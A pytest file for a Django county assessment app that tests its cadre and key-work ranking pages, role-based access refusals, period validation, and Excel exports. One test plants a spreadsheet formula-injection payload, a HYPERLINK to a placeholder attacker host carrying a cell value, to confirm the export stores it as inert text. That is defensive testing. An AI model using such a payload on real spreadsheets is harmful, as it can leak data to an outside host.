"""The double ranking's pages and Excel workbooks: figures, who may open them, bad input."""

from __future__ import annotations

import io
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from kuaiban.assessment.tests.ledger import NOW, build_cadres, build_orders
from kuaiban.core import clock
from kuaiban.org.demo import Directory
from kuaiban.org.models import User

pytestmark = pytest.mark.django_db

INJECTION = '=HYPERLINK("http://evil.example/?x="&A2,"点击")'


def web(username: str | None) -> Client:
    client = Client(HTTP_ACCEPT_LANGUAGE="zh-hans")
    if username:
        client.force_login(User.objects.get(username=username))
    return client


def get(username: str | None, path: str, **params: str) -> Any:
    with clock.frozen(NOW):
        return web(username).get(path, params)


def rows(response: Any) -> list[list[Any]]:
    wb = load_workbook(io.BytesIO(response.content))
    return [[c.value for c in row] for row in wb.worksheets[0].iter_rows()]


def test_the_cadre_page_in_chinese(county: Directory) -> None:
    build_cadres(county)
    r = get("leader", "/assessment/cadres/", period="2026-11")
    assert r.status_code == 200
    html = r.content.decode()
    assert "双排名" in html and "班子内部" in html and "县级领导" in html
    assert "经发局 王芳" in html and "70.83" in html and "58.33" in html
    assert 'href="/assessment/key-work/?period=2026-11"' in html  # the other ranking
    assert "/assessment/cadres.xlsx?period=2026-11" in html


def test_a_handler_sees_only_their_team_on_the_page_and_in_the_workbook(
    county: Directory,
) -> None:
    build_cadres(county)
    r = get("handler-jfj", "/assessment/cadres/", period="2026-11")
    assert r.status_code == 200
    html = r.content.decode()
    assert "经发局 王芳" in html and "县领导 赵国栋" not in html
    assert "/assessment/key-work/" not in html  # not theirs to open
    assert get("handler-jfj", "/assessment/cadres/", team="chengguan").status_code == 403
    assert get("handler-jfj", "/assessment/key-work/").status_code == 403
    assert get("handler-jfj", "/assessment/key-work.xlsx").status_code == 403
    x = get("handler-jfj", "/assessment/cadres.xlsx", period="2026-11")
    assert x.status_code == 200
    assert {row[0] for row in rows(x)[1:4]} == {"经发局"}
    assert len([row for row in rows(x)[1:] if row[0] == "经发局"]) == 3


@pytest.mark.parametrize("username", ["operator", "visitor", "grid-33000000100101"])
def test_other_roles_are_refused(county: Directory, username: str) -> None:
    for path in (
        "/assessment/cadres/",
        "/assessment/key-work/",
        "/assessment/cadres.xlsx",
        "/assessment/key-work.xlsx",
    ):
        assert get(username, path).status_code == 403, (username, path)


def test_the_public_is_sent_to_log_in(county: Directory) -> None:
    for path in ("/assessment/cadres/", "/assessment/key-work.xlsx"):
        r = get(None, path)
        assert r.status_code == 302 and r["Location"].startswith("/login/")


def test_a_bad_period_is_shown_at_the_field(county: Directory) -> None:
    r = get("supervisor", "/assessment/key-work/", period="2026-Q7")
    assert r.status_code == 400
    html = r.content.decode()
    assert 'aria-invalid="true"' in html and "2026-Q4" in html  # the message gives the forms
    assert 'value="2026-Q7"' in html  # what was typed stays in the field
    assert "请填写月份（2026-11）、季度（2026-Q4）或年度（2026）。" in html
    assert get("supervisor", "/assessment/cadres.xlsx", period="2026-13").status_code == 400
    assert get("supervisor", "/assessment/cadres/", team="nowhere").status_code == 400


def test_the_cadre_workbook_has_the_figures_and_keeps_a_formula_name_as_text(
    county: Directory,
) -> None:
    build_cadres(county)
    wang = User.objects.get(username="jfj-wangfang")
    wang.display_name = INJECTION
    wang.save()
    x = get("supervisor", "/assessment/cadres.xlsx", period="2026-11")
    assert x.status_code == 200
    assert x["Content-Disposition"].endswith("_2026-11.xlsx")
    table = rows(x)
    assert table[0][:5] == ["领导班子", "排名", "姓名", "账号", "综合得分"]
    by_account = {row[3]: row for row in table[1:] if row[3]}
    assert by_account["jfj-wangfang"][:13] == [
        "经发局",
        1,
        INJECTION,
        "jfj-wangfang",
        70.83,
        2,
        2,
        1,
        3,
        3,
        1,
        0.3333,
        1,
    ]
    assert by_account["leader-zhao"][:5] == ["县级领导", 1, "县领导 赵国栋", "leader-zhao", 58.33]
    sheet = load_workbook(io.BytesIO(x.content)).worksheets[0]
    cell = next(row[2] for row in sheet.iter_rows() if row[3].value == "jfj-wangfang")
    assert cell.value == INJECTION and cell.data_type == "s" and cell.quotePrefix is True


def test_the_key_work_page_and_workbook(county: Directory) -> None:
    build_orders(county)
    r = get("admin", "/assessment/key-work/", period="2026-11")
    assert r.status_code == 200
    html = r.content.decode()
    assert "重点工作" in html and "住建局" in html and "70.00" in html
    x = get("admin", "/assessment/key-work.xlsx", period="2026-11")
    table = rows(x)
    assert table[0][:5] == ["考核层级", "排名", "单位", "综合得分", "督查事项数"]
    by_unit = {row[2]: row for row in table[1:] if row[2]}
    assert by_unit["住建局"] == ["部门", 1, "住建局", 70.0, 2, 1, 2, 1.0, 1, 0.5, 0, 0]
    assert by_unit["城管局"] == ["部门", 2, "城管局", 50.0, 2, 0, 1, 0.5, 1, 0.5, 1, 1]
    assert by_unit["城关镇"][:5] == ["乡镇/街道", 1, "城关镇", 0.0, 1]
    assert by_unit["经发局"][1] == "未排名" and by_unit["经发局"][3] == "—"
